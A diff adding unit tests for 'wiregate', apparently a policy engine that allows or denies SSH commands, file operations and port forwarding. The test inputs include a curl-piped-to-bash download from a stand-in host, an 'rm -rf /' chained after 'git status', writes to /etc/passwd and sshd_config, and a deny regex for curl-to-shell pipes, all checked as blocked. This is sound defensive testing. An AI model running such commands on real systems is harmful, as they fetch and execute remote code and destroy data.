@@ -283,6 +283,70 @@ def test_allow_command_requires_a_simple_command() -> None:
         assert exec_(line).action == "deny", line
 
 
+def test_command_regexes_search_for_deny_and_fullmatch_for_allow() -> None:
+    cfg = config(rule("no-curl-pipe", match={"command": ["re:curl .*\\| *(ba)?sh"]}),
+                 rule("git-only", "allow", match={"command": ["re:git (status|log|diff)( .*)?"]}), default="deny")
+    s = session(cfg, target="web-1", protocol="ssh")
+
+    def exec_(line: str) -> Decision:
+        return s.check(Command(protocol="ssh", target="web-1", kind="exec", text=line))
+
+    d = exec_("curl -s https://x.example/i.sh | bash")
+    assert d.rule == "no-curl-pipe" and d.action == "deny"
+    assert 'commands matching "re:curl .*\\| *(ba)?sh"' in d.message
+    assert exec_("git status").allowed and exec_("git log -n 3").allowed
+    # an allow regex must cover the whole (simple) line
+    assert exec_("git statusx").action == "deny"
+    assert exec_("git status; rm -rf /").action == "deny"
+    with pytest.raises(ConfigError, match=r"rules\[0\]\.match\.command\[0\]: invalid regular expression"):
+        PolicyEngine(config(rule("bad", match={"command": ["re:("]})))
+
+
+def test_file_operations() -> None:
+    cfg = config(rule("no-etc", match={"file": ["write /etc/*", "remove /etc/*"]}),
+                 rule("tmp-writes", "allow", match={"file": ["write /tmp/*", "read *", "stat *", "list *"]}),
+                 default="deny")
+    s = session(cfg, target="web-1", protocol="ssh")
+
+    def op(text: str) -> Decision:
+        return s.check(Command(protocol="ssh", target="web-1", kind="file", text=text))
+
+    d = op("write /etc/passwd")
+    assert d.action == "deny" and d.rule == "no-etc"
+    assert d.message == ('wiregate: blocked by rule "no-etc": file operations matching "write /etc/*" '
+                         'are not allowed on target "web-1"')
+    assert op("write /etc/ssh/sshd_config").action == "deny"  # * crosses /
+    assert op("write /tmp/x").allowed and op("read /etc/passwd").allowed
+    d = op("mkdir /srv/x")
+    assert d.action == "deny" and d.rule is None  # the default
+    assert "no rule allows this file operation" in d.message
+    # file rules never match commands, and command rules never match file operations
+    assert s.check(Command(protocol="ssh", target="web-1", kind="exec", text="write /etc/passwd")).rule is None
+
+
+def test_forwarding_needs_a_rule_naming_it() -> None:
+    cfg = config(rule("everything", "allow"),
+                 rule("db-tunnel", "allow", match={"forward": ["local db.internal:5432"]}))
+    s = session(cfg, target="web-1", protocol="ssh")
+
+    def fwd(text: str) -> Decision:
+        return s.check(Command(protocol="ssh", target="web-1", kind="forward", text=text))
+
+    assert fwd("local db.internal:5432").allowed
+    assert fwd("local db.internal:5432").rule == "db-tunnel"
+    # neither the default (allow) nor an allow rule without `forward` lets other forwards through
+    d = fwd("local db.internal:22")
+    assert d.action == "deny" and d.rule is None
+    assert d.message == 'wiregate: forwarding refused: no rule allows local db.internal:22 on target "web-1"'
+    assert fwd("agent").action == "deny"
+    # a deny rule without `match` still denies forwarding
+    s = session(config(rule("lockdown"), rule("db-tunnel", "allow", match={"forward": ["local *"]})),
+                target="web-1", protocol="ssh")
+    assert s.check(Command(protocol="ssh", target="web-1", kind="forward", text="local x:1")).rule == "lockdown"
+    with pytest.raises(ConfigError, match="must be"):
+        PolicyEngine(config(rule("bad", "allow", match={"forward": ["db:5432"]})))
+
+
 def test_tool_globs() -> None:
     s = session(config(*SPEC_RULES), target="tools", protocol="http")
 
